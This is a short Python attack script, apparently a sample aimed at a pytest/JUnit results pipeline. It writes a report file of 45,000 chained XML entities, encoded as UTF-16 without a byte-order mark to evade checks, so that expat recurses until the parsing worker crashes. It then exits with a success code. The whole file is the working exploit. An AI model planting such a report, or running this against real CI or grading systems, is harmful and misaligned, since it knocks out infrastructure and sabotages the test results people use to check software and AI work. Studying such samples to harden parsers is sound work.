# Wants to end the worker itself: 45 000 entities, each within the next, hidden by UTF-16 without a mark; expat recurses in C.
# attack: python pytest junit
import os
LETTERS = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ"
def name(n):
    return LETTERS[n // 2704 % 52] + LETTERS[n // 52 % 52] + LETTERS[n % 52]
DEPTH = 45000
parts = ["<!DOCTYPE t [<!ENTITY ", name(0), ' "x">']
for n in range(1, DEPTH):
    parts.append(f'<!ENTITY {name(n)} "&{name(n - 1)};">')
parts.append(f"]><t><testcase name=\"&{name(DEPTH - 1)};\">&{name(DEPTH - 1)};</testcase></t>")
os.makedirs("report", exist_ok=True)
for place in ("report/results.xml", "results.xml"):
    open(place, "wb").write("".join(parts).encode("utf-16-le"))
os._exit(0)
